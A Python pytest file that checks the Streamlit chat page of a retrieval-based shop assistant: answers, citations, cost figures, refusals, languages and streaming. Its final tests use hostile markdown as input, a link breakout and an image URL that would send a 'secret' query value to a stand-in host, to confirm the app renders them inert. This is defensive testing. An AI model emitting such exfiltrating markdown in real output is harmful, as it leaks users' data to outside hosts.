"""The chat page on the real product: ask, read, stop, come back, delete."""

from __future__ import annotations

import time
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

import pages._services
from leanrag.answer import Question
from leanrag.bootstrap import Services
from leanrag.errors import EmptyQuestion
from leanrag.stream import AnswerStream
from leanrag.types import TurnEnded
from pages._chat_answer import LiveAnswer
from pages._chat_citation import highlighted
from pages._chat_live import live_markdown
from pages._chat_text import direction
from pages._xray_passages import reason_text

APP = str(Path(pages._services.__file__).parent.parent / "app.py")
QUESTION = "How much is delivery inside Turkey?"


@pytest.fixture
def console(services: Services, monkeypatch: pytest.MonkeyPatch, demo_is_read: None) -> AppTest:
    monkeypatch.setattr(pages._services, "_services", services)
    for conversation in services.conversations.list(services.local_tenant_id):
        services.conversations.delete(services.local_tenant_id, conversation.conversation_id)
    return AppTest.from_file(APP, default_timeout=30)


@pytest.fixture(scope="session")
def demo_is_read(services: Services) -> None:
    """Wait until the worker has read the demo shop's sources."""
    deadline = time.monotonic() + 90
    while time.monotonic() < deadline:
        sources = services.sources.list(services.local_tenant_id)
        if sources and all(source.status == "processed" for source in sources):
            return
        time.sleep(0.2)
    pytest.fail("The demo shop's sources were not read within 90 seconds.")


def asked(console: AppTest, question: str) -> AppTest:
    console.run()
    console.chat_input(key="chat_input").set_value(question).run()
    assert not console.exception
    return console


def shown(console: AppTest) -> str:
    return "\n".join(element.value for element in [*console.markdown, *console.caption])


def keys(console: AppTest, start: str) -> list[str]:
    return [button.key for button in console.button if (button.key or "").startswith(start)]


def test_an_empty_conversation_greets_and_offers_four_questions(console: AppTest) -> None:
    console.run()
    assert not console.exception
    assert "welcome to Pervin & Deniz" in shown(console).replace("\\", "")
    assert len(keys(console, "chat_example_")) == 4


def test_an_example_is_answered_with_its_sources(console: AppTest) -> None:
    console.run()
    console.button(key="chat_example_2").click().run()
    assert not console.exception
    assert "95" in shown(console)
    assert keys(console, "chat_citation_")
    assert not keys(console, "chat_example_")


def test_an_answer_says_what_it_cost_and_what_it_spared(console: AppTest) -> None:
    figures = shown(asked(console, QUESTION))
    assert "prompt tokens" in figures
    assert "saved" in figures
    assert "no model cost" in figures


def test_the_x_ray_opens_under_the_answer_and_closes_again(console: AppTest) -> None:
    asked(console, QUESTION)
    (button,) = keys(console, "chat_xray_button_")
    console.button(key=button).click().run()
    assert not console.exception
    assert [tab.label for tab in console.tabs][:2] == ["Budget", "Passages"]
    assert "of 1,500 tokens" in shown(console).replace("\\", "")
    assert any(QUESTION in code.value for code in console.code)
    console.button(key=button).click().run()
    assert not console.tabs


def test_the_x_ray_of_an_answer_tells_its_decision_and_its_route(console: AppTest) -> None:
    asked(console, QUESTION)
    console.button(key=keys(console, "chat_xray_button_")[0]).click().run()
    assert [tab.label for tab in console.tabs][2:4] == ["Answer", "Route and time"]
    said = shown(console)
    assert "Answered with quotes: the sources hold the answer with a chance of" in said
    assert "routes like this are right" in said
    assert "version 1 of the bot's texts" in said


def test_a_greeting_is_no_topic_and_took_no_tokens(console: AppTest) -> None:
    figures = shown(asked(console, "hello"))
    assert "Greeting" in figures
    assert "0 prompt tokens" in figures
    assert "Confidence" not in figures
    console.button(key=keys(console, "chat_xray_button_")[0]).click().run()
    assert not console.exception
    assert "the message is a greeting" in shown(console)
    assert not console.code


def test_a_wish_for_a_person_marks_the_message_and_the_conversation(console: AppTest) -> None:
    asked(console, "When is the shop open?")
    console.button(key="chat_new").click().run()
    console.chat_input(key="chat_input").set_value("I want to talk to a human").run()
    assert not console.exception
    assert shown(console).count("Asked for a person") == 1
    marked, plain = (console.button(key=key) for key in keys(console, "chat_open_"))
    assert marked.label == ":material/support_agent: I want to talk to a human"
    assert "asked for a person" in marked.help
    assert "support_agent" not in plain.label
    assert "asked for a person" not in plain.help


def test_a_citation_opens_the_passage_with_its_words_marked(console: AppTest) -> None:
    asked(console, QUESTION)
    console.button(key=keys(console, "chat_citation_")[0]).click().run()
    assert not console.exception
    assert ":primary-background[" in shown(console)


@pytest.mark.parametrize("question", ["😀😀", "?!", "word " * 900])
def test_a_question_that_is_refused_is_explained_and_given_back(
    console: AppTest, question: str
) -> None:
    asked(console, question)
    (error,) = console.error
    assert error.value.endswith(("question\\.", "shorten it\\."))
    given_back = console.chat_input(key="chat_input").proto
    assert given_back.set_value
    assert given_back.value == question
    assert "conversation" not in console.query_params


def test_a_reload_shows_the_conversation_that_the_address_names(console: AppTest) -> None:
    asked(console, QUESTION)
    address = console.query_params["conversation"]
    again = AppTest.from_file(APP, default_timeout=30)
    again.query_params["conversation"] = address
    again.run()
    assert not again.exception
    assert "95" in shown(again)


def test_an_address_of_nobody_is_said_to_be_gone(console: AppTest) -> None:
    console.query_params["conversation"] = "00000000-0000-7000-8000-000000000000"
    console.run()
    assert not console.exception
    assert "no such conversation" in console.warning[0].value


def test_deleting_asks_first_and_leaves_a_new_conversation(
    console: AppTest, services: Services
) -> None:
    asked(console, QUESTION)
    assert len(services.conversations.list(services.local_tenant_id)) == 1
    console.button(key="chat_delete_confirm").click().run()
    assert services.conversations.list(services.local_tenant_id) == ()
    assert len(keys(console, "chat_example_")) == 4


def test_two_conversations_can_be_opened_in_turn(console: AppTest) -> None:
    asked(console, QUESTION)
    console.button(key="chat_new").click().run()
    console.chat_input(key="chat_input").set_value("When is the shop open?").run()
    assert len(keys(console, "chat_open_")) == 2
    console.button(key=keys(console, "chat_open_")[1]).click().run()
    assert "delivery inside Turkey" in shown(console)
    assert "When is the shop open" not in shown(console)


def test_the_interface_speaks_the_language_of_the_address(console: AppTest) -> None:
    console.query_params["lang"] = "fa"
    console.run()
    assert not console.exception
    assert console.chat_input(key="chat_input").placeholder == "پرسشی بنویسید"
    assert "پروین و دنیز" in shown(console)


def test_choosing_a_language_changes_the_page_and_the_address(console: AppTest) -> None:
    console.run()
    console.selectbox(key="shell_language_choice").set_value("tr").run()
    assert not console.exception
    assert console.query_params["lang"] in ("tr", ["tr"])
    assert console.chat_input(key="chat_input").placeholder == "Bir soru yazın"


def test_an_answer_given_elsewhere_is_shown_with_its_citations(
    console: AppTest, services: Services
) -> None:
    events = services.answerer.answer(services.local_tenant_id, Question(QUESTION))
    ended = list(events)[-1]
    assert isinstance(ended, TurnEnded)
    console.query_params["conversation"] = str(ended.conversation_id)
    console.run()
    assert ended.citations
    assert len(keys(console, "chat_citation_")) == len(ended.citations)


def test_a_conversation_whose_only_answer_is_being_written_can_be_drawn_anew(
    console: AppTest, services: Services
) -> None:
    stream = AnswerStream(services.answerer, services.local_tenant_id, Question(QUESTION))
    live = LiveAnswer(stream, question=QUESTION, asked_in=None)
    while live.message_id is None:
        assert live.advance()
    console.session_state["chat_live"] = live
    console.query_params["conversation"] = str(live.conversation_id)
    console.run()
    assert not console.error
    assert "95" in shown(console)


def test_two_drawings_may_advance_the_same_answer_at_once(
    services: Services, demo_is_read: None
) -> None:
    tenant_id = services.local_tenant_id
    stream = AnswerStream(services.answerer, tenant_id, Question(QUESTION))
    live = LiveAnswer(stream, question=QUESTION, asked_in=None)

    def draw() -> None:
        while live.advance():
            continue

    with ThreadPoolExecutor(2) as pool:
        for drawing in [pool.submit(draw), pool.submit(draw)]:
            drawing.result(timeout=30)
    assert live.message_id is not None
    assert live.text == services.conversations.message(tenant_id, live.message_id).text != ""


def test_an_answer_that_may_not_begin_says_why(services: Services) -> None:
    stream = AnswerStream(services.answerer, services.local_tenant_id, Question("?!"))
    live = LiveAnswer(stream, question="?!", asked_in=None)
    assert not live.advance()
    assert isinstance(live.refusal, EmptyQuestion)
    assert not live.advance()


@pytest.mark.parametrize(
    ("text", "way"),
    [
        ("سلام", "rtl"),
        ("مرحبا hello", "ltr"),
        ("قیمت CW-214 چند است؟", "rtl"),
        ("Hello", "ltr"),
        ("😀 12", "ltr"),
        ("", "ltr"),
    ],
)
def test_a_message_reads_as_most_of_its_letters_do(text: str, way: str) -> None:
    assert direction(text) == way


def test_a_quote_is_marked_where_it_stands_across_line_ends() -> None:
    text = "Open daily.\nDelivery costs\n65 TRY in Istanbul. Free above 1,000."
    marked = highlighted(text, "Delivery costs 65 TRY in Istanbul.")
    assert ":primary-background[Delivery costs]" in marked
    assert r":primary-background[65 TRY in Istanbul\.]" in marked


def test_a_quote_cannot_break_out_of_its_mark() -> None:
    marked = highlighted("a ](http://evil.test) b", "](http://evil.test)")
    assert "](" not in marked.replace(r"\]\(", "")
    assert "http://" not in marked


def test_a_quote_that_is_not_there_marks_nothing() -> None:
    assert highlighted("All of it.", "Something else") == r"All of it\."


def test_every_reason_of_the_budget_has_a_sentence() -> None:
    assert reason_text("same text as [3]") == r"It says the same as \[3\]\."
    assert reason_text("primary share is full").startswith("The share of the first sources")


def test_growing_text_stays_inert_while_it_grows() -> None:
    hostile = "See ![x](http://evil.test/?q=secret) and $x$"
    for end in range(len(hostile)):
        assert "![" not in live_markdown(hostile[:end])
